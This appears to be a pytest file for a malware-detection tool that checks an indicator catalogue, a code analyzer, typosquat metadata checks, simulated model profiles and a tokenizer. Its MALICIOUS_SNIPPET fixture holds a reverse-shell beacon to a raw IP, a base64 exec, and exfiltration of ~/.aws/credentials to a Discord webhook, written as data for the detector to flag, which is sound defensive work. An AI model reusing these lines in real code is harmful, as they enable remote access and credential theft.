"""Tests for the simulated-LLM substrate: knowledge, analysis, profiles, tokenizer, protocol."""

import pytest

from repro.categories import CATEGORIES
from repro.corpus.package import PackageMetadata
from repro.llm import (
    INDICATOR_CATALOG,
    CodeAnalyzer,
    count_tokens,
    get_profile,
    truncate_to_tokens,
)
from repro.llm import protocol
from repro.llm.knowledge import AUDIT_CATEGORIES, indicator_by_key
from repro.llm.profiles import PROFILES

MALICIOUS_SNIPPET = '''
import socket, os, base64, requests
def beacon():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("45.137.21.9", 4444))
    os.dup2(s.fileno(), 0)
def drop():
    exec(base64.b64decode("aW1wb3J0IG9z"))
def steal():
    requests.post("https://discord.com/api/webhooks/1/x", json=dict(t=open(os.path.expanduser("~/.aws/credentials")).read()))
'''

BENIGN_SNIPPET = '''
def moving_average(values, window):
    return [sum(values[max(0, i - window):i + 1]) / max(1, min(i + 1, window)) for i in range(len(values))]
'''


# -- knowledge catalogue ---------------------------------------------------------

def test_catalog_is_substantial_and_unique():
    keys = [entry.key for entry in INDICATOR_CATALOG]
    assert len(keys) == len(set(keys))
    assert len(keys) >= 40


def test_catalog_covers_every_audit_category():
    for category in AUDIT_CATEGORIES:
        assert any(entry.audit_category == category for entry in INDICATOR_CATALOG)


def test_catalog_subcategories_are_valid():
    from repro.categories import category_of
    for entry in INDICATOR_CATALOG:
        category_of(entry.subcategory)  # raises on unknown


def test_indicator_by_key_and_min_specificity():
    entry = indicator_by_key("net_discord_webhook")
    assert entry.specificity > 0.9
    assert indicator_by_key("exec_os_system").specificity == pytest.approx(0.5)
    with pytest.raises(KeyError):
        indicator_by_key("nope")


# -- analyzer ----------------------------------------------------------------------

def test_analyzer_finds_expected_behaviors():
    report = CodeAnalyzer().analyze_code(MALICIOUS_SNIPPET)
    keys = {finding.indicator_key for finding in report.findings}
    assert "net_discord_webhook" in keys
    assert "net_reverse_shell_dup2" in keys
    assert "enc_exec_b64" in keys
    assert "ioc_raw_ip_endpoint" in keys


def test_analyzer_clean_code_produces_no_findings():
    report = CodeAnalyzer().analyze_code(BENIGN_SNIPPET)
    assert report.findings == []
    assert report.metadata_findings == []


def test_analyzer_merges_multiple_units_without_duplicates():
    analyzer = CodeAnalyzer()
    merged = analyzer.analyze_units([MALICIOUS_SNIPPET, MALICIOUS_SNIPPET])
    keys = [finding.indicator_key for finding in merged.findings]
    assert len(keys) == len(set(keys))
    assert merged.analyzed_units == 2


def test_analyzer_metadata_findings():
    metadata = PackageMetadata(name="reqests", version="0.0.0", summary="", description="")
    report = CodeAnalyzer().analyze_metadata(metadata)
    subcats = {finding.subcategory for finding in report.findings}
    assert "Version Number Deception" in subcats
    assert report.metadata_findings


def test_report_to_text_mentions_findings():
    report = CodeAnalyzer().analyze_code(MALICIOUS_SNIPPET)
    text = report.to_text()
    assert "Analysis Result" in text
    assert "reverse shell" in text.lower()


def test_finding_categories_are_valid_taxonomy_categories():
    report = CodeAnalyzer().analyze_code(MALICIOUS_SNIPPET)
    for finding in report.findings:
        assert finding.category in CATEGORIES


# -- profiles ------------------------------------------------------------------------

def test_profiles_present_and_ordered():
    assert set(PROFILES) >= {"gpt-4o", "gpt-3.5-turbo", "claude-3.5-sonnet", "llama-3.1-70b", "oracle"}
    assert PROFILES["gpt-4o"].recall > PROFILES["gpt-3.5-turbo"].recall
    assert PROFILES["claude-3.5-sonnet"].recall > PROFILES["gpt-4o"].recall
    assert PROFILES["claude-3.5-sonnet"].string_precision < PROFILES["gpt-4o"].string_precision


def test_get_profile_aliases():
    assert get_profile("GPT-4o").name == "gpt-4o"
    assert get_profile("llama-3.1:70b").name == "llama-3.1-70b"
    with pytest.raises(KeyError):
        get_profile("unknown-model")


def test_profile_validation():
    from repro.llm.profiles import ModelProfile
    with pytest.raises(ValueError):
        ModelProfile("x", "X", 8000, recall=1.2, string_precision=0.5, hallucination_rate=0.0,
                     syntax_error_rate=0.0, fix_success_rate=1.0, refine_quality=1.0)


# -- tokenizer ------------------------------------------------------------------------

def test_count_tokens_monotonic_in_length():
    assert count_tokens("") == 0
    assert count_tokens("word") >= 1
    assert count_tokens("word " * 100) > count_tokens("word " * 10)


def test_truncate_to_tokens_behaviour():
    text = "tok " * 5000
    truncated, was_truncated = truncate_to_tokens(text, 100)
    assert was_truncated
    assert count_tokens(truncated) <= 100
    untouched, flag = truncate_to_tokens("short text", 1000)
    assert untouched == "short text" and not flag


def test_truncate_to_zero_budget():
    truncated, flag = truncate_to_tokens("abc", 0)
    assert truncated == "" and flag


# -- protocol --------------------------------------------------------------------------

def test_protocol_sections_roundtrip():
    text = (protocol.section("TASK", "craft") + protocol.section("SAMPLE 1", "code one")
            + protocol.section("SAMPLE 2", "code two") + protocol.section("RULE", "rule body"))
    sections = protocol.parse_sections(text)
    assert protocol.first_section(sections, "TASK") == "craft"
    assert protocol.sections_with_prefix(sections, "SAMPLE") == ["code one", "code two"]


def test_protocol_sample_numeric_ordering():
    text = "".join(protocol.section(f"SAMPLE {i}", f"body {i}") for i in (10, 2, 1))
    sections = protocol.parse_sections(text)
    assert protocol.sections_with_prefix(sections, "SAMPLE") == ["body 1", "body 2", "body 10"]


def test_protocol_completion_extraction():
    completion = protocol.render_completion("analysis text", "rule text")
    assert protocol.extract_rule_from_completion(completion) == "rule text"
    assert protocol.extract_analysis_from_completion(completion) == "analysis text"
    # bare rule without markers is passed through
    assert protocol.extract_rule_from_completion("rule x {}") == "rule x {}"
